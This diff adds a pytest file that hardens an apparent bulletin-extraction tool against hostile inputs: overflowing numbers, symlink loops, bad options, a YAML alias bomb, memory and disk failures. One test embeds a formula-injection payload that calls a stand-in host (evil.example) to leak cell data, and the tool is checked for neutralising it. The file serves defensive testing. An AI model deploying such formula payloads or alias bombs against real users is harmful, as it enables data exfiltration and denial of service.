@@ -1,0 +1,239 @@
+"""Issue 24, hardening round 2: hostile files and options, each built here, never a traceback,
+never a lost or half-written output."""
+from __future__ import annotations
+
+import json
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from paths import FIXTURES
+
+from extract.cli import main
+from extract.pipeline import process_file
+
+HUGE = "1" + "0" * 320   # beyond any float: float(Decimal(HUGE)) is inf
+
+
+def _draft(dst: Path, *edits: tuple[str, str]) -> Path:
+    """The mini bulletin's draft with texts of its word/document.xml replaced."""
+    src = FIXTURES / "mini-bulletin.docx"
+    with zipfile.ZipFile(src) as old, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as new:
+        for info in old.infolist():
+            data = old.read(info)
+            if info.filename == "word/document.xml":
+                text = data.decode()
+                for before, after in edits:
+                    assert before in text, before
+                    text = text.replace(before, after, 1)
+                data = text.encode()
+            new.writestr(info.filename, data)
+    return dst
+
+
+def _strict_json_lines(path: Path) -> list[dict]:
+    def refuse(name: str):
+        raise AssertionError(f"{name} in {path.name}")
+
+    return [json.loads(line, parse_constant=refuse) for line in path.read_text(encoding="utf-8").splitlines()]
+
+
+ALL_FORMATS = ["--format", "csv", "--format", "json", "--format", "parquet", "--format", "xlsx"]
+
+
+def test_an_infinite_completion_cell_is_an_unparsed_value_in_every_format_and_the_cache(tmp_path, capsys):
+    path = _draft(tmp_path / "cell.docx", ("29.00%", HUGE + "%"))
+    out = tmp_path / "out"
+    for _ in range(2):   # the second run reads the cache
+        assert main(["extract", str(path), "--out", str(out), "--jobs", "1", *ALL_FORMATS]) == 0
+        rows = _strict_json_lines(out / "indicators.jsonl")
+        [row] = [r for r in rows if r["completion_raw"] == HUGE + "%"]
+        assert row["completion_ratio"] is None
+        assert pd.read_parquet(out / "indicators.parquet")["completion_ratio"].abs().max() <= 1
+        csv_ratios = pd.read_csv(out / "indicators.csv", encoding="utf-8-sig")["completion_ratio"]
+        assert csv_ratios.abs().max() <= 1
+    assert "cache hits" in capsys.readouterr().out
+    assert main(["report", str(out), "--html", str(tmp_path / "report.html")]) == 0
+    capsys.readouterr()
+    assert main(["check", str(path), "--json"]) == 0
+    json.loads(capsys.readouterr().out, parse_constant=lambda name: pytest.fail(name))
+
+
+def test_an_infinite_share_in_the_narrative_is_no_internal_error(tmp_path, rules):
+    result = process_file(_draft(tmp_path / "share.docx", ("占比66.7%", f"占比{HUGE}%")), rules)
+    assert (result.status, result.error) == ("ok", "")
+    assert all(c.percent is None or abs(c.percent) < 1e15 for c in result.claims)
+
+
+def test_a_twenty_digit_total_is_said_unread_and_every_format_is_written(tmp_path):
+    path = _draft(tmp_path / "big.docx", ("共有重点监测指标6项", "共有重点监测指标12345678901234567890项"))
+    out = tmp_path / "out"
+    assert main(["extract", str(path), "--out", str(out), "--jobs", "1", *ALL_FORMATS]) == 0
+    claims = pd.read_parquet(out / "claims.parquet")
+    assert claims["total"].isna().all() and len(claims) == 5
+    findings = _strict_json_lines(out / "findings.jsonl")
+    assert {f["kind"] for f in findings} == {"unchecked"}
+    assert any("out of range" in f["detail"] for f in findings)
+
+
+def test_formula_like_texts_are_neutralised_in_history_outputs_too(tmp_path):
+    hostile = '=HYPERLINK("http://evil.example/?"&amp;A1,"查看")'
+    path = _draft(tmp_path / "draft.docx", ("地区生产总值增长7%。", hostile), ("县商务局", "@SUM(1+1)"))
+    out = tmp_path / "out"
+    assert main(["extract", str(path), "--out", str(out), "--jobs", "1", "--format", "json"]) == 0
+    assert main(["history", str(out)]) == 0
+    for name in ("history.csv", "laggards.csv"):
+        text = (out / name).read_text(encoding="utf-8-sig")
+        cells = [cell for line in text.splitlines() for cell in line.split(",")]
+        assert not any(cell.lstrip('"').startswith(("=", "@")) for cell in cells), name
+    history = pd.read_csv(out / "history.csv", encoding="utf-8-sig")
+    assert history["target"].str.startswith("'=HYPERLINK").any()
+    assert history["responsible_units"].str.startswith("'@SUM").any()
+    assert (history["completion_ratio"].dropna() <= 1).all()   # numbers stay numbers
+
+
+def test_a_symlink_loop_on_the_command_line_is_one_error_row_and_the_batch_goes_on(tmp_path, mini_pdf, capsys):
+    loop = tmp_path / "loop.pdf"
+    loop.symlink_to(loop)
+    out = tmp_path / "out"
+    assert main(["extract", str(loop), str(mini_pdf), "--out", str(out), "--jobs", "1"]) == 1
+    bulletins = pd.read_csv(out / "bulletins.csv", encoding="utf-8-sig")
+    assert list(bulletins["status"]) == ["error", "ok"]
+    assert "Traceback" not in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("command", ["check", "extract"])
+@pytest.mark.parametrize("option", [("--timeout", "inf"), ("--timeout", "nan"), ("--timeout", "-1"),
+                                    ("--memory-limit", "-1"), ("--memory-limit", "1")])
+def test_options_out_of_range_are_usage_errors(command, option, mini_pdf, tmp_path, capsys):
+    args = [command, str(mini_pdf), *option] + (["--out", str(tmp_path / "out")] if command == "extract" else [])
+    try:
+        code = main(args)
+    except SystemExit as exc:   # argparse's own usage error
+        code = exc.code
+    assert code == 2
+    err = capsys.readouterr().err
+    assert "Traceback" not in err
+    [line] = [line for line in err.splitlines() if option[0] in line and "error" in line or "zhuanbao:" in line]
+    assert option[1] in line
+    assert not (tmp_path / "out" / "bulletins.csv").exists()
+
+
+def _laughs(levels: int) -> str:
+    """A status.yaml of a few hundred bytes whose aliases expand to 9**levels words."""
+    lines = ["words:", "  l0: &l0 [" + ", ".join(["lol"] * 9) + "]"]
+    lines += [f"  l{n}: &l{n} [" + ", ".join([f"*l{n - 1}"] * 9) + "]" for n in range(1, levels + 1)]
+    return "\n".join(lines) + "\n"
+
+
+@pytest.mark.parametrize(("name", "text", "said"), [
+    ("status", _laughs(9), "status.yaml line 3: YAML aliases"),
+    ("ocr", "engine: {worker_memory_mb: 0}\n", "ocr.yaml: engine.worker_memory_mb must be a number above 0"),
+    ("review", "templates: {percent_mismatch: 5}\n", "review.yaml templates percent_mismatch: must be a list"),
+    ("review", "templates: {percent_mismatch: [5]}\n", "review.yaml templates percent_mismatch item 5: must be a text"),
+    ("review", "templates: {new_kind: 5}\n", "review.yaml templates new_kind: must be a list"),
+])
+def test_hostile_rules_are_refused_before_any_file_is_read(name, text, said, mini_pdf, tmp_path, capsys):
+    folder = tmp_path / "rules"
+    folder.mkdir()
+    (folder / f"{name}.yaml").write_text(text, encoding="utf-8")
+    assert len(text) < 1000
+    out = tmp_path / "out"
+    assert main(["extract", str(mini_pdf), "--out", str(out), "--rules", str(folder), "--no-cache"]) == 2
+    [line] = capsys.readouterr().err.splitlines()
+    assert said in line, line
+    assert not (out / "bulletins.csv").exists()
+
+
+def _scan(src: Path, dst: Path) -> Path:
+    """Pages as images only: read by OCR."""
+    import pypdfium2
+
+    pdf = pypdfium2.PdfDocument(str(src))
+    images = [pdf[i].render(scale=0.6).to_pil().convert("L") for i in range(len(pdf))]
+    images[0].save(dst, "PDF", save_all=True, append_images=images[1:], resolution=72)
+    return dst
+
+
+def test_out_of_memory_during_ocr_is_not_cached_so_a_rerun_tries_again(mini_pdf, tmp_path, monkeypatch, capsys):
+    pytest.importorskip("rapidocr")
+    import extract.readers.ocr as ocr
+
+    def no_memory(*args, **kwargs):
+        raise MemoryError
+
+    scan = _scan(mini_pdf, tmp_path / "scan.pdf")
+    out = tmp_path / "out"
+    # the workers are forked from this process (one thread), so they see the patched page reader
+    monkeypatch.setattr(ocr, "ocr_page_blocks", no_memory)
+    assert main(["extract", str(scan), "--out", str(out), "--jobs", "1"]) == 1
+    bulletins = pd.read_csv(out / "bulletins.csv", encoding="utf-8-sig")
+    assert list(bulletins["error"]) == ["document too large for memory"]
+    monkeypatch.undo()
+    capsys.readouterr()
+    assert main(["extract", str(scan), "--out", str(out), "--jobs", "1"]) == 0   # tried again, not served the error
+    assert list(pd.read_csv(out / "bulletins.csv", encoding="utf-8-sig")["status"]) == ["ok"]
+
+
+def test_a_commit_that_fails_half_way_leaves_the_previous_outputs_whole(mini_pdf, mini_docx, tmp_path, monkeypatch,
+                                                                        capsys):
+    """A full disk while the tables are completed (the CSVs done, the parquet footers not): before,
+    bulletins.csv held the new run and the other tables the old one, plus .part files."""
+    import errno
+
+    import pyarrow.parquet as pq
+
+    out = tmp_path / "out"
+    formats = ["--format", "csv", "--format", "parquet", "--no-cache", "--jobs", "1"]
+    assert main(["extract", str(mini_pdf), "--out", str(out), *formats]) == 0
+    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
+    real_close = pq.ParquetWriter.close
+    calls = []
+
+    def full_disk(self):
+        calls.append(self)
+        if len(calls) == 3:   # the third table's footer
+            real_close(self)
+            raise OSError(errno.ENOSPC, "No space left on device")
+        return real_close(self)
+
+    monkeypatch.setattr(pq.ParquetWriter, "close", full_disk)
+    capsys.readouterr()
+    assert main(["extract", str(mini_docx), "--out", str(out), *formats]) == 2
+    [line] = [line for line in capsys.readouterr().err.splitlines() if line.strip()]   # the progress bar leaves a blank
+    assert "No space left on device" in line and "Traceback" not in line
+    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == before
+
+
+def _beyond_the_bmp_pdf() -> bytes:
+    """Helvetica text whose ToUnicode CMap maps A to U+20000 (CJK Ext-B) and B to an emoji: pdfium
+    gives each UTF-16 half of those an index of its own."""
+    from rawpdf import pdf_from_objects
+
+    cmap = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /T def /CMapType 2 def\n"
+            b"1 begincodespacerange <00> <FF> endcodespacerange\n"
+            b"2 beginbfchar <41> <D840DC00> <42> <D83DDE00> endbfchar\n"
+            b"endcmap CMapName currentdict /CMap defineresource pop end end")
+    content = b"BT /F1 24 Tf 72 700 Td (Title AB here) Tj ET\nBT /F1 12 Tf 72 600 Td (Body A B) Tj ET"
+    return pdf_from_objects([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
+        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>",
+        b"<< /Length %d >>\nstream\n" % len(cmap) + cmap + b"\nendstream",
+    ])
+
+
+def test_characters_beyond_the_bmp_are_whole_characters_and_every_output_is_written(mini_pdf, tmp_path):
+    from extract.model import TextLine
+    from extract.readers.pdf import read_pdf
+
+    path = tmp_path / "ext-b.pdf"
+    path.write_bytes(_beyond_the_bmp_pdf())
+    text = " ".join(b.text for b in read_pdf(path).blocks if isinstance(b, TextLine))
+    assert "\U00020000\U0001F600" in text and not any(0xD800 <= ord(c) <= 0xDFFF for c in text), text
+    out = tmp_path / "out"
+    assert main(["extract", str(path), str(mini_pdf), "--out", str(out), "--jobs", "1", *ALL_FORMATS]) == 0
+    assert list(pd.read_csv(out / "bulletins.csv", encoding="utf-8-sig")["status"]) == ["skipped", "ok"]
